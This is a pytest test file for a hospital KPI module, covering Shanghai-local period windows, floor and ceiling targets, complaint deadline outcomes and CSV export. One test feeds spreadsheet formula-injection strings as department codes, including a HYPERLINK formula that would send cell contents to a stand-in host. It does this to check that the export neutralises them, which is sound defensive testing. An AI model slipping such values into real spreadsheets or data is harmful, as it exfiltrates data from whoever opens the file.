"""KPI arithmetic: hospital-local periods, values, targets and whether they are met."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from metrics.kpi import (
    KPI_KEYS,
    KPIS,
    Period,
    evaluate,
    evaluate_all,
    period_window,
    rolling_window,
    to_csv,
)
from metrics.settings import DOMAIN_TARGETS, Settings

TZ = "Asia/Shanghai"
BY_KEY = {k.key: k for k in KPIS}


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def test_a_day_is_midnight_to_midnight_in_shanghai() -> None:
    w = period_window(Period.DAY, date(2026, 11, 23), TZ)
    assert w.start.astimezone(UTC) == utc(2026, 11, 22, 16)
    assert w.end.astimezone(UTC) == utc(2026, 11, 23, 16)
    # 23:59 UTC on the 22nd is 07:59 on the 23rd in Shanghai: inside the 23rd.
    assert w.start <= utc(2026, 11, 22, 23, 59) < w.end
    assert not (w.start <= utc(2026, 11, 22, 15, 59) < w.end)


def test_a_week_starts_on_monday_whatever_day_is_asked() -> None:
    for day in (date(2026, 11, 23), date(2026, 11, 26), date(2026, 11, 29)):
        w = period_window(Period.WEEK, day, TZ)
        assert w.start.date() == date(2026, 11, 23)  # a Monday
        assert w.end.date() == date(2026, 11, 30)


def test_months_roll_over_the_year_and_february() -> None:
    dec = period_window(Period.MONTH, date(2026, 12, 31), TZ)
    assert (dec.start.date(), dec.end.date()) == (date(2026, 12, 1), date(2027, 1, 1))
    feb = period_window(Period.MONTH, date(2028, 2, 10), TZ)
    assert (feb.start.date(), feb.end.date()) == (date(2028, 2, 1), date(2028, 3, 1))
    assert feb.start.astimezone(UTC) == utc(2028, 1, 31, 16)


def test_the_rolling_alert_window_ends_the_offset_before_today_local() -> None:
    # 2026-11-23 17:00 UTC is already the 24th in Shanghai.
    w = rolling_window(utc(2026, 11, 23, 17), days=7, offset_days=3, tz=TZ)
    assert (w.start.date(), w.end.date()) == (date(2026, 11, 14), date(2026, 11, 21))


def test_a_floor_target_is_met_at_exactly_the_target() -> None:
    r = evaluate(BY_KEY["followup_inpatient_rate"], 19, 20, 0.95)
    assert r.value == pytest.approx(0.95) and r.met is True
    assert evaluate(BY_KEY["followup_inpatient_rate"], 18, 20, 0.95).met is False


def test_a_ceiling_target_is_met_below_it() -> None:
    kpi = BY_KEY["registration_dissatisfaction_rate"]
    assert evaluate(kpi, 1, 50, 0.02).met is True
    assert evaluate(kpi, 2, 50, 0.02).met is False


def test_an_empty_cohort_has_no_value_and_no_verdict() -> None:
    r = evaluate(BY_KEY["satisfaction_rate"], 0, 0, 0.95)
    assert r.value is None and r.met is None and r.target == 0.95


def test_a_kpi_without_target_is_measured_but_not_judged() -> None:
    r = evaluate(BY_KEY["no_show_rate"], 3, 40, None)
    assert r.value == pytest.approx(0.075) and r.met is None


def test_every_listed_kpi_is_reported_with_domain_targets() -> None:
    results = evaluate_all({"followup_outpatient_rate": (1, 4)}, Settings().effective_targets())
    assert [r.key for r in results] == list(KPI_KEYS)
    out = {r.key: r for r in results}
    assert out["followup_outpatient_rate"].met is True  # 25% >= 20%
    assert out["followup_first_visit_rate"].target == 0.60
    assert out["complaint_handling_satisfaction_rate"].target == 0.98
    assert set(DOMAIN_TARGETS) == set(KPI_KEYS)


def test_targets_are_overridable_one_at_a_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("METRICS_KPI_TARGETS", '{"satisfaction_rate": 0.9}')
    targets = Settings().effective_targets()
    assert targets["satisfaction_rate"] == 0.9
    assert targets["followup_inpatient_rate"] == 0.95


def test_the_csv_has_one_line_per_kpi_with_chinese_titles() -> None:
    window = period_window(Period.MONTH, date(2026, 11, 1), TZ)
    results = evaluate_all({"followup_inpatient_rate": (19, 20)}, DOMAIN_TARGETS)
    text = to_csv(("month", window, "ALL", r) for r in results)
    lines = text.splitlines()
    assert len(lines) == 1 + len(KPI_KEYS)
    assert lines[1].split(",")[3:5] == ["ALL", "followup_inpatient_rate"]
    assert "出院患者回访率" in lines[1] and lines[1].endswith(",0.9500,0.9500,>=,yes,1,0")


@pytest.mark.parametrize(
    "department", ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1", "@SUM(A1)"]
)
def test_a_department_code_is_never_a_formula_in_the_csv(department: str) -> None:
    # Codes come from hospital systems and from staff opening complaints.
    window = period_window(Period.MONTH, date(2026, 11, 1), TZ)
    results = evaluate_all({}, DOMAIN_TARGETS)
    rows = list(csv.reader(io.StringIO(to_csv(("month", window, department, r) for r in results))))
    assert {row[3] for row in rows[1:]} == {"'" + department}


# Which way each KPI is good, written out from DOMAIN.md independently of the catalog: a
# rate of things done is a floor (">= target"); a rate of things going wrong is a ceiling.
CEILINGS = {"registration_dissatisfaction_rate", "no_show_rate"}
CEILINGS |= {"guidance_dissatisfaction_rate"}


def test_every_kpi_points_the_way_the_manuals_mean() -> None:
    """A dissatisfaction or no-show rate meets its target by staying under it; every other
    rate by reaching it. Turned around, a hospital missing its 2% limit would show green."""
    from metrics.kpi import KPIS, evaluate

    for k in KPIS:
        ceiling = k.key in CEILINGS
        assert k.minimum is not ceiling, k.key
        assert evaluate(k, 1, 100, 0.02).met is ceiling, k.key  # 1% against 2%
        assert evaluate(k, 99, 100, 0.95).met is not ceiling, k.key  # 99% against 95%


# --- issue 20: what has matured, and the new KPIs ---------------------------------------


def test_a_clock_is_pending_until_it_is_met_settled_or_past_due() -> None:
    from metrics.kpi import ClockOutcome, clock_outcome

    now = utc(2026, 12, 5, 8)
    soon, past = utc(2026, 12, 6, 8), utc(2026, 12, 5, 7)
    # A complaint opened a minute ago: its 24 h first response is not a miss yet.
    assert clock_outcome(met=False, settled=False, due_at=soon, now=now) is ClockOutcome.PENDING
    assert clock_outcome(met=False, settled=False, due_at=past, now=now) is ClockOutcome.MISSED
    # At its due instant it can still be met (hospital_shared.time_limits): not a miss yet.
    assert clock_outcome(met=False, settled=False, due_at=now, now=now) is ClockOutcome.PENDING
    # Settled early without the outcome (a late answer, every call attempt unreached): missed.
    assert clock_outcome(met=False, settled=True, due_at=soon, now=now) is ClockOutcome.MISSED
    # Met counts whenever it happened, before or after the due time.
    assert clock_outcome(met=True, settled=True, due_at=past, now=now) is ClockOutcome.MET
    assert clock_outcome(met=False, settled=False, due_at=None, now=now) is ClockOutcome.PENDING


def test_the_rate_is_over_what_has_matured_and_pending_is_reported_apart() -> None:
    results = evaluate_all(
        {"complaint_first_response_rate": (3, 4, 5), "followup_inpatient_rate": (0, 0, 2)},
        DOMAIN_TARGETS,
    )
    out = {r.key: r for r in results}
    first = out["complaint_first_response_rate"]
    assert (first.numerator, first.missed, first.pending, first.value) == (3, 1, 5, 0.75)
    assert first.met is False  # 75% of the matured cases, against 100%
    waiting = out["followup_inpatient_rate"]  # nothing matured: no value, no verdict yet
    assert (waiting.value, waiting.met, waiting.pending) == (None, None, 2)
    assert out["no_show_rate"].pending == 0  # a key not given: an empty cohort


def test_the_missing_kpis_of_the_manuals_are_listed_with_their_targets() -> None:
    targets = Settings().effective_targets()
    assert targets["complaint_complex_answer_rate"] == 1.0  # complex cases answered within 72 h
    assert targets["imaging_dispute_confirmation_rate"] == 1.0  # radiology within 2 h
    # Quality checks are reported apart from the patients' satisfaction, measured only.
    assert targets["spot_check_satisfaction_rate"] is None
    assert targets["second_call_satisfaction_rate"] is None
    for key in targets:
        assert key in KPI_KEYS


def test_a_new_counter_series_is_served_at_zero_before_its_total() -> None:
    from metrics.domain import served_total

    assert served_total(1, age_s=3.0, zero_for_s=12.0) == 0  # Prometheus sees 0, then 1
    assert served_total(1, age_s=12.0, zero_for_s=12.0) == 1
    assert served_total(7, age_s=float("inf"), zero_for_s=12.0) == 7  # older than the column
    assert served_total(5, age_s=0.0, zero_for_s=0.0) == 5  # switched off
